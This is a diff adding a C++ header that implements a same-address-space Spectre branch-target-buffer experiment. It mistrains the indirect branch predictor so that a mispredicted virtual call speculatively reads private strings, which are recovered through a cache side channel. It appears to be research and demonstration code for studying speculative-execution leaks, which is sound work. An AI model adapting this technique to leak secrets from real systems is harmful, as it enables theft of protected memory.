@@ -0,0 +1,267 @@
+/*
+ * Copyright 2020 Google LLC
+ *
+ * Licensed under both the 3-Clause BSD License and the GPLv2, found in the
+ * LICENSE and LICENSE.GPL-2.0 files, respectively, in the root directory.
+ *
+ * SPDX-License-Identifier: BSD-3-Clause OR GPL-2.0
+ */
+
+#ifndef DEMOS_BTB_EXPERIMENT_H_
+#define DEMOS_BTB_EXPERIMENT_H_
+
+// The same-address-space BTB experiment shared by spectre_v1_btb_sa and the
+// Orig-btb and Var-btb variants: the indirect branch predictor is trained to
+// call RealDataAccessor::GetDataByte, then a CensoringDataAccessor is called
+// instead with read_from_private_data set, and the mispredicted call reads
+// the private data speculatively.
+//
+// BtbExperiment is parameterized by four policies:
+//   - Chain:    which accessors are called and how (see DirectChain),
+//   - Training: how many training calls precede the victim call in each run
+//               (CyclingTraining, FixedTraining),
+//   - Flush:    what is flushed before each call to widen the speculation
+//               window (FlushAccessor, NoAccessorFlush),
+//   - Decision: how a run's scores are turned into a verdict
+//               (ChannelDecision).
+// A variant is a new policy class, typically a few lines.
+
+#include <algorithm>
+#include <array>
+#include <cstddef>
+#include <memory>
+#include <utility>
+#include <vector>
+
+#include "cache_sidechannel.h"
+#include "decision_rule.h"
+#include "experiment.h"
+#include "instr.h"
+#include "utils.h"
+
+constexpr size_t kAccessorArrayLength = 1024;
+
+// The strings a BTB experiment leaks from: `public_data` is accessed
+// architecturally, `private_data` only speculatively. The accessors take it
+// as a template argument rather than a member, so that a mispredicted call
+// finds the strings without waiting for the flushed accessor object.
+struct LeakTarget {
+  const char *public_data;
+  const char *private_data;
+};
+
+// DataAccessor provides an interface to access bytes from either the public or
+// the private storage.
+class DataAccessor {
+ public:
+  virtual char GetDataByte(size_t index, bool read_from_private_data) = 0;
+  virtual ~DataAccessor() {};
+ protected:
+  // Helper method that picks the pointer that you want to read from.
+  static const char *GetDataPtr(const LeakTarget &target,
+                                bool read_from_private_data) {
+    // This is the same as:
+    // return read_from_private_data ? private_data : public_data;
+    // It only avoids branching in case it is compiled without optimizations.
+    return target.public_data + (target.private_data - target.public_data) *
+                                    static_cast<int>(read_from_private_data);
+  }
+};
+
+// Behaves exactly by the specification, if you ask for public data, it gives
+// you public data, if you ask for private data, you get private data.
+template <const LeakTarget &Target>
+class RealDataAccessor: public DataAccessor {
+ public:
+  char GetDataByte(size_t index, bool read_from_private_data) override {
+    return GetDataPtr(Target, read_from_private_data)[index];
+  }
+};
+
+// It gives you only public data, no matter what you ask for. Useful for cases
+// where you never want to leak the private data.
+template <const LeakTarget &Target>
+class CensoringDataAccessor: public DataAccessor {
+ public:
+  char GetDataByte(size_t index, bool /* read_from_private_data */) override {
+    return Target.public_data[index];
+  }
+};
+
+// Chain policy calling a RealDataAccessor and a CensoringDataAccessor
+// directly. Chain policies provide:
+//   Accessor              the type the experiment calls through,
+//   real(), censoring()   the trained and the victim accessor,
+//   Call(accessor, index, read_from_private_data)
+//                         the indirect call under attack,
+//   object_size()         bytes of an accessor to flush before the call,
+//   target()              the strings leaked from.
+template <const LeakTarget &Target>
+class DirectChain {
+ public:
+  using Accessor = DataAccessor;
+
+  DirectChain()
+      : real_(new RealDataAccessor<Target>),
+        censoring_(new CensoringDataAccessor<Target>) {}
+
+  Accessor *real() const { return real_.get(); }
+  Accessor *censoring() const { return censoring_.get(); }
+  char Call(Accessor *accessor, size_t index,
+            bool read_from_private_data) const {
+    return accessor->GetDataByte(index, read_from_private_data);
+  }
+  static size_t object_size() {
+    return std::max(sizeof(RealDataAccessor<Target>),
+                    sizeof(CensoringDataAccessor<Target>));
+  }
+  static const LeakTarget &target() { return Target; }
+
+ private:
+  std::unique_ptr<DataAccessor> real_;
+  std::unique_ptr<DataAccessor> censoring_;
+};
+
+// Training policy of the original demo: run n makes n % max_length training
+// calls, so the training length sweeps 0 to max_length - 1 and the calls per
+// run grow with it. Training policies provide max_length() and
+// Length(run), the number of training calls before the victim call in `run`.
+class CyclingTraining {
+ public:
+  explicit CyclingTraining(size_t max_length = kAccessorArrayLength)
+      : max_length_(max_length) {}
+
+  size_t max_length() const { return max_length_; }
+  size_t Length(int run) const { return run % max_length_; }
+
+ private:
+  size_t max_length_;
+};
+
+// Makes the same number of training calls in every run.
+class FixedTraining {
+ public:
+  explicit FixedTraining(size_t length) : length_(length) {}
+
+  size_t max_length() const { return length_ + 1; }
+  size_t Length(int /* run */) const { return length_; }
+
+ private:
+  size_t length_;
+};
+
+// Flushes the whole accessor object before calling it, in case it is
+// hypothetically on multiple cache-lines. The call can then only be resolved
+// once its vtable pointer is loaded from memory.
+struct FlushAccessor {
+  void operator()(const void *accessor, size_t size) const {
+    const char *accessor_bytes = static_cast<const char *>(accessor);
+    FlushFromDataCache(accessor_bytes, accessor_bytes + size);
+  }
+};
+
+// Leaves the accessors cached, for measuring how much the flush matters.
+struct NoAccessorFlush {
+  void operator()(const void * /* accessor */, size_t /* size */) const {}
+};
+
+// Decides with the channel's RecomputeScores, discounting the public byte
+// that every run reads architecturally. Uses the channel's decision rule
+// unless constructed with one.
+class ChannelDecision {
+ public:
+  ChannelDecision() = default;
+  explicit ChannelDecision(const DecisionRule &rule)
+      : rule_(rule), set_rule_(true) {}
+
+  void Begin(CacheSideChannel &sidechannel) const {
+    if (set_rule_) {
+      sidechannel.set_decision_rule(rule_);
+    }
+  }
+  std::pair<bool, char> Evaluate(CacheSideChannel &sidechannel,
+                                 char public_byte) const {
+    return sidechannel.RecomputeScores(public_byte);
+  }
+
+ private:
+  DecisionRule rule_ = DefaultDecisionRule();
+  bool set_rule_ = false;
+};
+
+template <typename Chain, typename Training = CyclingTraining,
+          typename Flush = FlushAccessor, typename Decision = ChannelDecision>
+class BtbExperiment {
+ public:
+  explicit BtbExperiment(Chain chain = Chain(),
+                         Training training = Training(),
+                         Flush flush = Flush(),
+                         Decision decision = Decision())
+      : chain_(std::move(chain)),
+        training_(std::move(training)),
+        flush_(std::move(flush)),
+        decision_(std::move(decision)),
+        schedule_(training_.max_length(), chain_.real()) {}
+
+  // Leaks the byte that is physically located at private_data[offset],
+  // without ever loading it. In the abstract machine, and in the code
+  // executed by the CPU, this function does not load any memory except for
+  // what is in the bounds of `public_data`, and local auxiliary data.
+  //
+  // Instead, the leak is performed by indirect branch prediction during
+  // speculative execution, mistraining the predictor to jump to the address
+  // of GetDataByte implemented by RealDataAccessor that is unsafe for
+  // CensoringDataAccessor.
+  ExperimentOutcome LeakByte(CacheSideChannel &sidechannel, size_t offset,
+                             const ExperimentBudget &budget) {
+    sidechannel.ResetScores();
+    decision_.Begin(sidechannel);
+    const std::array<BigByte, 256> &oracle = sidechannel.GetOracle();
+    typename Chain::Accessor *real = chain_.real();
+    typename Chain::Accessor *censoring = chain_.censoring();
+    char public_byte = chain_.target().public_data[offset];
+
+    return RunExperiment(sidechannel, budget, [&](int run) {
+      sidechannel.FlushOracle();
+
+      // The schedule always holds the real accessor, except that for the
+      // length of one run the victim slot holds the censoring one. Setting up
+      // a run is therefore O(1), whatever the training length.
+      size_t victim = training_.Length(run);
+      schedule_[victim] = censoring;
+
+      // The victim slot is the trigger. Marking it apart would change the
+      // branch history it is predicted with, so it counts as training.
+      MarkPhase(ExperimentPhase::kTrain);
+      for (size_t i = 0; i <= victim; ++i) {
+        typename Chain::Accessor *accessor = schedule_[i];
+        // On the victim slot we have the censoring data accessor for which
+        // the read_private_data can be true, because that accessor will
+        // ignore that argument and use the public data anyway.
+        bool read_private_data = (i == victim);
+
+        flush_(accessor, chain_.object_size());
+
+        // Speculative fetch at the offset. Architecturally it fetches
+        // always from the public_data, though speculatively it fetches the
+        // private_data on the victim slot.
+        ForceRead(oracle.data() + static_cast<size_t>(
+            chain_.Call(accessor, offset, read_private_data)));
+      }
+
+      schedule_[victim] = real;
+      MarkPhase(ExperimentPhase::kProbe);
+      return decision_.Evaluate(sidechannel, public_byte);
+    });
+  }
+
+ private:
+  Chain chain_;
+  Training training_;
+  Flush flush_;
+  Decision decision_;
+  // Accessors called in a run, in order.
+  std::vector<typename Chain::Accessor *> schedule_;
+};
+
+#endif  // DEMOS_BTB_EXPERIMENT_H_